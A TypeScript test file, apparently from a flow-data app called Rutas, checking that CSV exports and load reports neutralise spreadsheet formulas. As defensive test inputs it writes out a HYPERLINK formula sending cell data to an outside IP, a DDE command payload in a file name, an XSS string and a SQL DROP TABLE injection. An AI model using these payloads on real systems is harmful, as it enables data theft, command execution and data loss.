/**
 * CSV injection (OWASP): no cell of a downloaded CSV or load report reads as a formula in a
 * spreadsheet, whatever a file name or a value from a file holds; Rutas's own figures ("< 10",
 * "≥ 20", "withheld") stay as they are.
 */
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { importFile } from '../../src/data/ingest/import-file';
import { reportLines, reportText } from '../../src/data/ingest/report';
import { resolvePolicy } from '../../src/domain/disclosure';
import type { PublishedView } from '../../src/domain/publish';
import { readsAsFormula, spreadsheetSafe } from '../../src/domain/spreadsheet-safe';
import { countriesCsv, csvCell, flowsCsv, type ExportContext } from '../../src/export/csv';
import { FUZZ_RUNS, HOSTILE } from '../support/fuzz-inputs';

/** Every cell a spreadsheet would see in `text`, comment lines included. */
const cellsOf = (text: string, delimiter = ',') =>
  Papa.parse<string[]>(text, { delimiter }).data.flat();

const FORMULAS = ['=1+1', '+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '＝1+1'];

describe('a cell that could read as a formula', () => {
  it('gets a quote in front; figures and names stay as they are', () => {
    for (const f of FORMULAS) expect(spreadsheetSafe(f)).toBe(`'${f}`);
    for (const text of ['< 10', '≥ 20', 'withheld', '12', '1,757', 'Bolivia', '', "'=1"])
      expect(spreadsheetSafe(text)).toBe(text);
  });

  it('is quoted in a CSV, and reads back as the text with its quote', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('< 10')).toBe('< 10');
    expect(csvCell('≥ 20')).toBe('≥ 20');
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...HOSTILE, ...FORMULAS)), (text) => {
        const back = cellsOf(csvCell(text))[0] ?? '';
        expect(back).toBe(readsAsFormula(text) ? `'${text}` : text);
        expect(readsAsFormula(back)).toBe(false);
      }),
      { numRuns: FUZZ_RUNS },
    );
  });
});

describe('the CSV exports', () => {
  const view = {
    legs: [
      { from: 'BOL', to: 'ARG', victims: { kind: 'suppressed', k: 10 }, sectors: [] },
      {
        from: 'VEN',
        to: 'COL',
        victims: { kind: 'shown', value: 20, lowerBound: true },
        sectors: [{ sector: 'mining', victims: { kind: 'shown', value: 40 } }],
      },
    ],
    places: [
      {
        place: 'PER',
        involved: { kind: 'shown', value: 40 },
        outgoing: { kind: 'withheld' },
        incoming: { kind: 'suppressed', k: 10 },
        transit: { kind: 'shown', value: 0 },
        internal: { kind: 'shown', value: 12 },
      },
    ],
  } as unknown as PublishedView;

  it('neutralise a dataset named like formulas (comment lines are split at commas too)', () => {
    const ctx: ExportContext = {
      datasetLabel: `cases.csv,=HYPERLINK("http://203.0.113.9/?"&A1;"x"), @SUM(A1)\t-1+1;+2`,
      filter: { yearFrom: 2010, yearTo: 2023, sectors: [], place: null },
      policy: resolvePolicy(),
    };
    for (const text of [flowsCsv(view, ctx), countriesCsv(view, ctx)]) {
      for (const delimiter of [',', ';', '\t']) {
        const cells = cellsOf(text, delimiter);
        expect(cells.filter(readsAsFormula)).toEqual([]);
      }
      expect(text).toContain(`cases.csv,'=HYPERLINK("http://203.0.113.9/?"&A1;"x"), '@SUM(A1)`);
    }
    const flows = flowsCsv(view, ctx)
      .split('\n')
      .filter((l) => l && !l.startsWith('#'));
    expect(flows).toEqual([
      'from,from_name,to,to_name,victims,sectors',
      'BOL,Bolivia,ARG,Argentina,< 10,',
      'VEN,Venezuela,COL,Colombia,≥ 20,Mining: 40',
    ]);
    expect(countriesCsv(view, ctx)).toContain('PER,Peru,40,withheld,< 10,0,12');
  });
});

describe('the load report download', () => {
  it('keeps values from the file as text, and none of its lines reads as a formula', async () => {
    const name = "=cmd|' /C calc'!A0.csv";
    const csv = [
      'year,origin,destination,sector',
      ...HOSTILE.map((h) => `2020,"${h.replaceAll('"', '""')}",ARG,"${h.replaceAll('"', '""')}"`),
      '2021,BOL,ARG,mining',
    ].join('\n');
    const { report } = await importFile(name, new TextEncoder().encode(csv));
    const lines = reportLines(report);
    // On screen, as the file has them (React writes them as text).
    for (const h of HOSTILE) {
      const key = `origin "${h.slice(0, 60)}"`;
      expect(Object.keys(report.notUnderstood), h).toContain(key);
      expect(
        lines.some((l) => l.includes(key)),
        h,
      ).toBe(true);
    }
    const text = reportText(report);
    for (const delimiter of [',', ';', '\t'])
      expect(cellsOf(text, delimiter).filter(readsAsFormula)).toEqual([]);
    expect(text).toContain(`origin "<img src=x onerror=alert(1)>"`);
    // A spreadsheet in a locale that splits at ";" (Spanish, Portuguese) would read "--…" there.
    expect(text).toContain(`origin "'); DROP TABLE cases; '--"`);
    // Behind its label, the name cannot start a cell: it is left as it is.
    expect(text.split('\n')[0]).toBe(`File: ${name}`);
  });
});
